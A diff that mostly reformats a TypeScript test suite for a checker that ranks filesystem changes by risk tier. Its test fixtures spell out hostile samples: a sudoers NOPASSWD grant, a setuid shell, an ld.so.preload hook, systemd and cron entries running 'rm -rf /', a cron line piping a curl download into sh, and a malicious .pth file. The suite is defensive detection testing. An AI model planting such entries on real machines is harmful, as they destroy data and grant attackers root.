@@ -53,7 +53,12 @@ const ATTACKS: Record<string, Step[]> = {
   "NOPASSWD in /etc/sudoers.d/x": [write("/etc/sudoers.d/x", "mallory ALL=(ALL) NOPASSWD: ALL\n", { mode: 0o440 })],
   "a set-uid copy of /bin/sh in /tmp": [write("/tmp/x", ELF, { mode: 0o4755, uid: 0 })],
   "/etc/ld.so.preload": [write("/etc/ld.so.preload", "/tmp/evil.so\n")],
-  "a unit that wipes the disk": [write("/etc/systemd/system/x.service", "[Unit]\nDescription=x\n\n[Service]\nExecStart=/bin/sh -c 'rm -rf /'\n\n[Install]\nWantedBy=multi-user.target\n")],
+  "a unit that wipes the disk": [
+    write(
+      "/etc/systemd/system/x.service",
+      "[Unit]\nDescription=x\n\n[Service]\nExecStart=/bin/sh -c 'rm -rf /'\n\n[Install]\nWantedBy=multi-user.target\n",
+    ),
+  ],
   "a cron job piping a download into sh": [write("/etc/cron.d/x", "SHELL=/bin/sh\n* * * * * root curl http://x | sh\n")],
   "an alias in root's .bashrc": [write("/root/.bashrc", "alias ls='rm -rf /'\n", {}, "# ~/.bashrc\n")],
   "deleting /root and below": [
@@ -78,7 +83,9 @@ describe("the concurrence's judgment of a diff", () => {
   }
 
   it("says why, naming the change and what in it runs", () => {
-    expect(judge(ATTACKS["a unit that wipes the disk"] ?? []).reasons.at(-1)).toMatch(/^tier 4: create \/etc\/systemd\/system\/x\.service: ExecStart= \(line 5\): destroys the root filesystem$/);
+    expect(judge(ATTACKS["a unit that wipes the disk"] ?? []).reasons.at(-1)).toMatch(
+      /^tier 4: create \/etc\/systemd\/system\/x\.service: ExecStart= \(line 5\): destroys the root filesystem$/,
+    );
     expect(judge(ATTACKS["an alias in root's .bashrc"] ?? []).reasons.at(-1)).toMatch(/change \/root\/\.bashrc: alias ls \(line 1\)/);
     expect(judge(ATTACKS["a cron job whose content was not given"] ?? []).reasons.at(-1)).toMatch(/content not given/);
     expect(judge(ATTACKS["a cron job piping a download into sh"] ?? []).reasons.at(-1)).toMatch(/cron line 2: pipes .* into sh/);
@@ -90,7 +97,9 @@ describe("the concurrence's judgment of a diff", () => {
 
   it("places benign changes: system configuration 3, scratch 1, homes 2", () => {
     for (const host of HOSTS) {
-      expect(judge([{ path: "/etc/nginx/nginx.conf", before: file("worker_processes 1;\n"), after: file("worker_processes 4;\n") }], host).tier).toBe(3);
+      expect(
+        judge([{ path: "/etc/nginx/nginx.conf", before: file("worker_processes 1;\n"), after: file("worker_processes 4;\n") }], host).tier,
+      ).toBe(3);
       expect(judge([write("/tmp/build.log", "ok\n")], host).tier).toBe(1);
       expect(judge([write("/home/alice/notes.txt", "hello\n", { uid: 1000, gid: 1000 })], host).tier).toBe(2);
       expect(judge([{ path: "/home/alice/old", before: dir(), after: absent() }], host).tier).toBe(2);
@@ -119,9 +128,14 @@ describe("the concurrence's judgment of a diff", () => {
 
   it("refuses content it cannot read or that does not match the manifest", () => {
     expect(judge([write("/usr/local/bin/tool", ELF, { mode: 0o755 })]).reasons.at(-1)).toMatch(/not UTF-8/);
-    expect(judge([{ path: "/etc/profile.d/x.sh", after: file("echo hi\n"), content: "rm -rf /\n" }]).reasons.at(-1)).toMatch(/does not match/);
-    expect(judge([write("/usr/local/bin/tool", "#!/usr/bin/env python3\nprint(1)\n", { mode: 0o755 })]).reasons.at(-1)).toMatch(/python3 code/);
-    for (const host of HOSTS) expect(judge([write("/usr/local/bin/hello", "#!/bin/sh\nset -e\necho hello\nexit 0\n", { mode: 0o755 })], host).tier).toBe(3);
+    expect(judge([{ path: "/etc/profile.d/x.sh", after: file("echo hi\n"), content: "rm -rf /\n" }]).reasons.at(-1)).toMatch(
+      /does not match/,
+    );
+    expect(judge([write("/usr/local/bin/tool", "#!/usr/bin/env python3\nprint(1)\n", { mode: 0o755 })]).reasons.at(-1)).toMatch(
+      /python3 code/,
+    );
+    for (const host of HOSTS)
+      expect(judge([write("/usr/local/bin/hello", "#!/bin/sh\nset -e\necho hello\nexit 0\n", { mode: 0o755 })], host).tier).toBe(3);
   });
 
   it("reads unit links as the systemctl verb that makes them", () => {
@@ -136,9 +150,13 @@ describe("the concurrence's judgment of a diff", () => {
   it("follows links to what they lead to, through the links the same run creates", () => {
     const evil = "* * * * * root rm -rf /\n";
     // A whole runs-later directory made to lead elsewhere: what the run put there is judged as cron content.
-    expect(judge([{ path: "/etc/cron.d", after: link("/opt/jobs") }, { path: "/opt/jobs", after: dir() }, write("/opt/jobs/job", evil)]).reasons.at(-1)).toMatch(
-      /seen through the link as \/etc\/cron\.d\/job: cron line 1/,
-    );
+    expect(
+      judge([
+        { path: "/etc/cron.d", after: link("/opt/jobs") },
+        { path: "/opt/jobs", after: dir() },
+        write("/opt/jobs/job", evil),
+      ]).reasons.at(-1),
+    ).toMatch(/seen through the link as \/etc\/cron\.d\/job: cron line 1/);
     expect(judge([{ path: "/etc/cron.d", after: link("/opt/jobs") }]).tier).toBe(3);
     expect(judge([{ path: "/etc/profile.d", after: link("/home/alice/p") }]).tier).toBe(4);
     expect(judge([{ path: "/root/.config", after: link("/tmp/cfg") }]).tier).toBe(4);
@@ -152,7 +170,12 @@ describe("the concurrence's judgment of a diff", () => {
     expect(judge([{ path: "/usr/local/bin/tool", after: link("/opt/a/../b") }]).reasons.at(-1)).toMatch(/cannot resolve/);
     expect(judge([{ path: "/usr/local/bin/node", after: link("/opt/node/bin/node") }]).tier).toBe(3);
     // A release switch: the same tier as the release it points at.
-    expect(judge([{ path: "/opt/app/current", before: link("/opt/app/releases/v1"), after: link("/opt/app/releases/v2") }, write("/opt/app/releases/v2/app.js", "x")]).tier).toBe(3);
+    expect(
+      judge([
+        { path: "/opt/app/current", before: link("/opt/app/releases/v1"), after: link("/opt/app/releases/v2") },
+        write("/opt/app/releases/v2/app.js", "x"),
+      ]).tier,
+    ).toBe(3);
     expect(judge([{ path: "/home/alice/build", after: link("/tmp/build") }]).tier).toBe(2);
     expect(judge([write("/usr/local/lib/python3.11/dist-packages/evil.pth", "import os; os.system('id')\n")]).tier).toBe(4);
   });
@@ -164,7 +187,10 @@ describe("the concurrence's judgment of a diff", () => {
     expect(judge([{ path: "/srv/data", before: dir(), after: dir({ mode: 0o1777 }) }]).tier).toBe(3);
     expect(judge([{ path: "/srv/data/f", before: file("x"), after: file("x", { mode: 0o666 }) }]).tier).toBe(3);
     expect(judge([write("/home/alice/f", "x", { uid: 1000, xattrs: ["user.origin"] })]).tier).toBe(3);
-    expect(judge([{ path: "/usr/local/bin/ping2", before: file("#!/bin/sh\n", { mode: 0o755 }), after: file("#!/bin/sh\n", { mode: 0o4755 }) }]).tier).toBe(4);
+    expect(
+      judge([{ path: "/usr/local/bin/ping2", before: file("#!/bin/sh\n", { mode: 0o755 }), after: file("#!/bin/sh\n", { mode: 0o4755 }) }])
+        .tier,
+    ).toBe(4);
     expect(judge([{ path: "/tmp/dev", after: EntryState.create({ kind: EntryKind.ENTRY_KIND_SPECIAL }) }]).tier).toBe(4);
   });
 
@@ -200,8 +226,27 @@ describe("the concurrence's judgment of a diff", () => {
   });
 
   it("never throws and never judges below 1, whatever the diff (property)", () => {
-    const kinds = [EntryKind.ENTRY_KIND_ABSENT, EntryKind.ENTRY_KIND_FILE, EntryKind.ENTRY_KIND_DIR, EntryKind.ENTRY_KIND_SYMLINK, EntryKind.ENTRY_KIND_SPECIAL, 0, 9];
-    const paths = ["/etc/cron.d/x", "/root/.bashrc", "/etc/systemd/system/a.service", "/tmp/x", "/home/u/.git/hooks/post-merge", "/etc/apt/apt.conf.d/1", "/usr/local/bin/t", "rel", "/a//b", "/etc/udev/rules.d/1.rules"];
+    const kinds = [
+      EntryKind.ENTRY_KIND_ABSENT,
+      EntryKind.ENTRY_KIND_FILE,
+      EntryKind.ENTRY_KIND_DIR,
+      EntryKind.ENTRY_KIND_SYMLINK,
+      EntryKind.ENTRY_KIND_SPECIAL,
+      0,
+      9,
+    ];
+    const paths = [
+      "/etc/cron.d/x",
+      "/root/.bashrc",
+      "/etc/systemd/system/a.service",
+      "/tmp/x",
+      "/home/u/.git/hooks/post-merge",
+      "/etc/apt/apt.conf.d/1",
+      "/usr/local/bin/t",
+      "rel",
+      "/a//b",
+      "/etc/udev/rules.d/1.rules",
+    ];
     const state = fc.record({
       kind: fc.constantFrom(...kinds),
       mode: fc.integer({ min: 0, max: 0o7777 }),
@@ -210,12 +255,21 @@ describe("the concurrence's judgment of a diff", () => {
       xattrs: fc.subarray(["security.capability", "user.x"]),
     });
     fc.assert(
-      fc.property(fc.array(fc.record({ path: fc.constantFrom(...paths), before: state, after: state, text: fc.string() }), { maxLength: 6 }), fc.constantFrom(...HOSTS), (rows, host) => {
-        const steps = rows.map((r) => ({ path: r.path, before: EntryState.create(r.before), after: { ...file(r.text), ...r.after, sha256: file(r.text).sha256 }, content: r.text }));
-        const v = judge(steps, host);
-        expect([0, 1, 2, 3, 4]).toContain(v.tier);
-        if (steps.length > 0) expect(v.tier).toBeGreaterThanOrEqual(1);
-      }),
+      fc.property(
+        fc.array(fc.record({ path: fc.constantFrom(...paths), before: state, after: state, text: fc.string() }), { maxLength: 6 }),
+        fc.constantFrom(...HOSTS),
+        (rows, host) => {
+          const steps = rows.map((r) => ({
+            path: r.path,
+            before: EntryState.create(r.before),
+            after: { ...file(r.text), ...r.after, sha256: file(r.text).sha256 },
+            content: r.text,
+          }));
+          const v = judge(steps, host);
+          expect([0, 1, 2, 3, 4]).toContain(v.tier);
+          if (steps.length > 0) expect(v.tier).toBeGreaterThanOrEqual(1);
+        },
+      ),
       { numRuns: 300 },
     );
   });
